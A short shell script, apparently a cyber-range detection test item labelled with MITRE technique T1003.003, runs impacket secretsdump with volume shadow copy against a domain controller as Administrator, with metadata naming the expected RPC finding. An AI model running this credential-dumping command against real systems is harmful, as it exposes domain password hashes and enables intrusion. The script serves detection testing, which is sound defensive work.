# SPDX-License-Identifier: Apache-2.0
# what: impacket secretsdump -use-vss, which win1 lets get as far as its registry
# technique: T1003.003
# from: ws1
# to: win1
# accused: ws1,win1
# account: Administrator
# outcome: attempt
# must: finding rpc
. "$RANGE_HERE/item.sh"
cd "$HOME"
impacket secretsdump -use-vss -just-dc "CORP/Administrator:$ADMIN_PASSWORD@$win1"
true
